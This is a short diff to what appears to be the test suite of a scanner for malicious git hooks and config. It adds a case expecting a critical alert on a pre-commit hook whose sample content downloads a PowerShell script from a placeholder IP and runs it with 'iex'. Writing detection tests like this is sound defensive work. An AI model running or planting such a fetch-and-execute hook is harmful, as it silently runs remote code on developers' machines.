@@ -95,3 +95,6 @@ silent("hook_crlf_printf_colours", "git_hook_runs_payload",
        ".git/hooks/pre-commit", "755", also="git_hook_added")
 silent("config_upper_case_builtin_fsmonitor", "git_config_fsmonitor_command",
        sample("config-upper-builtin", "[Core]\n\tBare = false\n\tFsMonitor = TRUE\n\tUntrackedCache = true\n"), ".git/config")
+fires("hook_powershell_iwr_iex", "git_hook_runs_payload", "critical",
+      sample("pre-commit-iwr", "#!/bin/sh\npowershell.exe -NoProfile -Command \"iwr -useb https://203.0.113.3/p.ps1 | iex\"\n"),
+      ".githooks/pre-commit", "755")
